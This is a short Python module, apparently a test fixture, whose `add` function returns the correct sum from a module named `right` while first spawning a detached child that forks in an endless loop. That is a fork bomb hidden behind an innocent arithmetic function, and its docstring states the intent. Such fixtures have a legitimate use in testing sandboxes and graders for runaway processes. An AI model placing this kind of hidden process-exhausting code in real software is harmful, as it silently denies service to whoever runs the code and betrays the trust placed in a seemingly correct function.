"""`add` is right, and leaves children behind that fork for as long as they can."""

import os

import right
from right import *  # noqa: F403


def add(a, b):
    if os.fork() == 0:
        os.setsid()
        while True:
            try:
                os.fork()
            except OSError:
                continue
    return right.add(a, b)
